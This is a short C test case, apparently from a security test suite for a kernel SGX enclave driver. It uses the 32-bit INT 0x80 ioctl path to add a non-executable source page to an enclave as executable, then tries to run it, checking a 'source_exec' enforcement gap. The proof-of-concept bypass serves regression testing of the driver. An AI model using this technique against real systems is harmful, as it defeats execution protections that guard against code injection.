// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * ADD_PAGES by INT 0x80, the ioctl() of 32-bit programs, goes by another function of the
 * driver's. Its argument lies below 4 GiB. In `strict` it adds what is not executable as code. R6.2:
 * the same is asked. The hole is source_exec.
 */
#include <sys/ioctl.h>
#include <sys/mman.h>

#include "attack.h"
#include "int80.h"

#define IOCTL_32	54

struct low {
	struct sgx_enclave_add_pages arg;
	struct avow_secinfo secinfo;
};

void attack(void)
{
	struct low *low = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
			       MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	u8 *src = source_anon(1, PROT_READ | PROT_WRITE);
	struct scene s;

	REQUIRE(low != MAP_FAILED);
	scene_image(&s, 1);
	low->secinfo.flags = avow_secinfo_reg(AVOW_R | AVOW_X);
	low->arg = (struct sgx_enclave_add_pages){
		.src = (u64)src,
		.offset = s.play,
		.length = PAGE,
		.secinfo = (u64)&low->secinfo,
	};

	ATTEMPT(&s, int80(IOCTL_32, (u64)s.e.fd, SGX_IOC_ENCLAVE_ADD_PAGES, (u64)&low->arg));
	scene_map(&s, s.play, 1, PROT_READ | PROT_EXEC);
	attempt_exec(&s, scene_at(&s, s.play));
	got_through("ran what was data");
}
